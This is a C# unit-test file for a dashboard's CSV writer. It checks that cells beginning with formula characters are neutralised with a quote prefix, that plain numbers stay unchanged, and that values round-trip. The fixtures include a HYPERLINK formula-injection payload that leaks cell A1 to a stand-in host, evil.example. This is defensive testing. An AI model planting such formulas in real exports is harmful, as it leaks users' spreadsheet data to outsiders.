using System.Text;
using CohortDashboard.Data.Csv;
using CohortDashboard.Data.Import;

namespace CohortDashboard.Data.Tests.Csv;

public sealed class CsvWriterTests
{
    public static TheoryData<string, string> Guarded => new()
    {
        { "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\"" },
        { "+SUM(1,2)", "\"'+SUM(1,2)\"" },
        { "-2+3", "'-2+3" },
        { "@cmd", "'@cmd" },
        { "\tx", "'\tx" },
        { "\rx", "\"'\rx\"" },
        { "-", "'-" },
        { "'=x", "''=x" },
        { "''@x", "'''@x" },
    };

    [Theory]
    [MemberData(nameof(Guarded))]
    public void Field_FormulaLeadingText_PrefixedWithQuote(string value, string expected) =>
        Assert.Equal(expected, CsvWriter.Field(value));

    [Theory]
    [InlineData("-12.5")]
    [InlineData("+3")]
    [InlineData("-1.5E-05")]
    [InlineData("-.5")]
    [InlineData("plain")]
    [InlineData("'quoted but harmless")]
    [InlineData("a=b")]
    public void Field_PlainNumbersAndHarmlessText_Unchanged(string value) => Assert.Equal(value, CsvWriter.Field(value));

    [Fact]
    public void Field_TypedNegativeNumbers_StayNumeric()
    {
        Assert.Equal("-12.5", CsvWriter.Field(-12.5m));
        Assert.Equal("-2.5E-06", CsvWriter.Field(-2.5e-6));
        Assert.Equal("-7", CsvWriter.Field(-7));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("-2+3")]
    [InlineData("'=x")]
    [InlineData("''")]
    [InlineData("'")]
    [InlineData("-12.5")]
    [InlineData("'-12.5")]
    [InlineData("@")]
    [InlineData("'plain")]
    public void Restore_OfNeutralise_GivesTheValueBack(string value) =>
        Assert.Equal(value, CsvWriter.Restore(CsvWriter.Neutralise(value)));

    [Fact]
    public void Neutralise_MillionQuotesBeforeAFormula_NoRecursionAndRoundTrips()
    {
        var hostile = new string('\'', 1_000_000) + "=1";

        var guarded = CsvWriter.Neutralise(hostile);

        Assert.Equal(hostile.Length + 1, guarded.Length);
        Assert.Equal(hostile, CsvWriter.Restore(guarded));
    }

    [Fact]
    public void CsvReader_ReadsWriterOutput_BackToTheOriginalValues()
    {
        string[] values = ["=HYPERLINK(\"http://evil.example/\",\"x\")", "+1+1", "-12.5", "@SUM(A1)", "'=x", "multi\nline, with comma", "-"];
        var csv = new StringBuilder();
        CsvWriter.WriteRow(csv, values.Select((_, i) => (object?)$"c{i}"));
        CsvWriter.WriteRow(csv, values);

        using var reader = new CsvReader(new StringReader(csv.ToString()));
        var record = Assert.Single(reader.ReadRecords());

        Assert.Equal(values, record.Fields);
    }
}
